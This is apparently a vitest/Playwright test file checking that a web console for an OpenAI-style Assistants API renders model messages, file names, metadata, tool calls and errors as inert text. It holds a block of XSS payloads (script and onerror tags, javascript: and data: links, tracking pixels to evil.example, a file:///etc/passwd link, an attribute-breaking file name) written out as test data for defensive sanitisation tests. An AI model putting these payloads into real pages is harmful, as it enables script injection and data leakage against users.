import { toFile } from 'openai'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { scriptedModel, type ScriptedModel } from '../harness/scripted-model.ts'
import { openConsole, type Console, type Visit } from './console.ts'

let model: ScriptedModel
let server: Console
let visit: Visit
beforeAll(async () => {
  model = await scriptedModel()
  server = await openConsole({ OPENAI_BASE_URL: model.url, OPENAI_API_KEY: 'upstream' })
})
afterEach(() => visit.close())
afterAll(async () => {
  await server.close()
  await model.close()
})

const script = '<img src=x onerror="window.harmed=1"><script>window.harmed=1</script>'

/** Text of a model that could harm its reader. */
const hostile = `
# Heading ${script}

${script}
<svg onload="window.harmed=1"></svg> <iframe src="https://evil.example/frame"></iframe>
<a href="javascript:window.harmed=1">raw link</a> <form action="https://evil.example"><input name=key></form>
<style>body { display: none } @import url(https://evil.example/x.css);</style>

[script link](javascript:window.harmed=1) [data link](data:text/html,<script>window.harmed=1</script>)
[tricky](JaVaScRiPt:window.harmed=1) [vb](vbscript:x) [plain](https://evil.example/path?secret=1) <https://evil.example/auto>
[file](file:///etc/passwd) [sandbox](sandbox:/mnt/data/x.html) [mark](citation:99)

![pixel](https://evil.example/pixel.png?thread=1) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=)
![js](javascript:window.harmed=1) ![ref][r]

[r]: https://evil.example/reference.png

| a | b |
|---|---|
| ${script} | ![cell](https://evil.example/cell.png) |

\`\`\`html
${script}
\`\`\`

\u202Etxt.exe\u202C 【0:0†${script}】
`

async function expectHarmless() {
  const { page } = visit
  expect(await page.evaluate('window.harmed')).toBeUndefined()
  const found = await page.evaluate<string[]>(`[
    ...[...document.querySelectorAll('a[href]')].filter((a) => !/^https?:$/.test(a.protocol)).map((a) => a.outerHTML),
    ...[...document.querySelectorAll('a[href]')].filter((a) => a.host !== location.host &&
      !(a.rel.includes('noopener') && a.rel.includes('noreferrer') && a.target === '_blank' &&
        a.referrerPolicy === 'no-referrer' && a.textContent.includes(a.host))).map((a) => a.outerHTML),
    ...[...document.querySelectorAll('img')].filter((i) => !/^(blob:|data:image\\/(png|jpeg|gif|webp);)/.test(i.src)).map((i) => i.outerHTML),
    ...[...document.querySelectorAll('iframe, object, embed, form[action], main style, base, meta[http-equiv]')].map((e) => e.outerHTML),
  ]`)
  expect(found).toEqual([])
}

async function openThread(message: string) {
  const thread = await server.openai.beta.threads.create({
    messages: [
      { role: 'user', content: message },
      { role: 'assistant', content: message },
    ],
    metadata: { [script.slice(0, 60)]: script.slice(0, 500) },
  })
  visit = await server.visit(`/console/threads/${thread.id}`)
  await visit.page.locator('.message.assistant').waitFor()
}

test('Markdown of a model runs no script and loads nothing from other hosts, and links show their address', async () => {
  await openThread(hostile)
  await expectHarmless()
  const { page } = visit
  const text = await page.locator('.message.assistant').innerText()
  // Raw HTML is text, and images of others are named with their host.
  expect(text).toContain('<img src=x onerror=')
  expect(text).toContain('open from evil.example')
  expect(await page.locator('.message.assistant a', { hasText: 'plain' }).innerText()).toContain(
    'evil.example',
  )
})

test('an image of another host is opened in a new page, and only by a click', async () => {
  await openThread('![pixel](https://evil.example/pixel.png)')
  const { page } = visit
  const link = page.locator('.message.assistant').getByRole('link', { name: /open from evil\.example/ })
  expect(await link.getAttribute('target')).toBe('_blank')
  expect(await page.locator('.message.assistant img').count()).toBe(0)
})

test('hostile names, metadata and files are text in every view', async () => {
  const { openai } = server
  const name = script.slice(0, 120)
  const file = await openai.files.create({
    file: await toFile(Buffer.from(`${script}\n${hostile}`), `"><img src=x onerror=window.harmed=1>.html`),
    purpose: 'assistants',
  })
  const store = await openai.vectorStores.create({ name, metadata: { a: script } })
  await openai.vectorStores.files.createAndPoll(store.id, {
    file_id: file.id,
    attributes: { [name.slice(0, 60)]: script },
  })
  const assistant = await openai.beta.assistants.create({
    model: `<b>${name}`,
    name,
    description: script,
    instructions: hostile,
    metadata: { a: script },
    tools: [{ type: 'file_search' }],
    tool_resources: { file_search: { vector_store_ids: [store.id] } },
  })
  visit = await server.visit('/console/')
  const { page } = visit
  for (const [path, shown] of [
    ['/', name],
    ['/assistants', name],
    [`/assistants/${assistant.id}`, name],
    ['/files', 'onerror=window.harmed'],
    [`/files/${file.id}`, 'onerror=window.harmed'],
    ['/vector-stores', name],
    [`/vector-stores/${store.id}`, name],
    [`/vector-stores/${store.id}/files/${file.id}`, 'onerror=window.harmed'],
    ['/models', `<b>${name}`],
    [`/threads?query=${encodeURIComponent(script)}`, script],
    [`/runs?model=${encodeURIComponent(script)}`, 'No matching runs'],
  ] as const) {
    await page.goto(`${server.url}/console${path}`)
    await page
      .getByText(shown)
      .first()
      .waitFor({ state: 'attached' })
      .catch(async () => {
        // A field holds its text as a value.
        expect(
          await page.evaluate<string>(
            "[...document.querySelectorAll('input, textarea')].map((one) => one.value).join('|')",
          ),
        ).toContain(shown)
      })
    await expectHarmless()
  }
})

test('what a model streams, what it calls and how it fails is text', async () => {
  const { openai } = server
  const assistant = await openai.beta.assistants.create({
    model: 'gpt-4o',
    tools: [
      {
        type: 'function',
        function: {
          name: 'f',
          description: script,
          parameters: { type: 'object', properties: { [script]: { type: 'string', description: script } } },
        },
      },
    ],
  })
  model.script([
    {
      text: hostile.match(/[^]{1,40}/g) ?? [],
      calls: [{ name: 'f', arguments: JSON.stringify({ [script]: script }) }],
    },
    { status: 400, body: { error: { message: `${script} refused`, code: 'bad' } } },
  ])
  visit = await server.visit(`/console/?assistant=${assistant.id}`)
  const { page } = visit
  await page.getByRole('textbox', { name: 'Message', exact: true }).fill(hostile)
  await page.keyboard.press('Control+Enter')
  await page.getByRole('form', { name: 'Outputs of the functions' }).waitFor()
  await expectHarmless()
  await page.getByLabel('Value 1 for f', { exact: true }).fill(script)
  await page
    .getByRole('form', { name: 'Outputs of the functions' })
    .getByRole('button', { name: 'Submit' })
    .click()
  await page.locator('[data-run-status=failed]').waitFor()
  await expectHarmless()
  await page.getByRole('link', { name: 'Open the run' }).click()
  await page.getByText('What to do').waitFor()
  expect(await page.locator('.run-says').innerText()).toContain(`${script} refused`)
  for (const tab of ['Model requests', 'Events', 'Raw', 'Steps']) {
    await page.getByRole('tab', { name: tab }).click()
    await expectHarmless()
  }
})
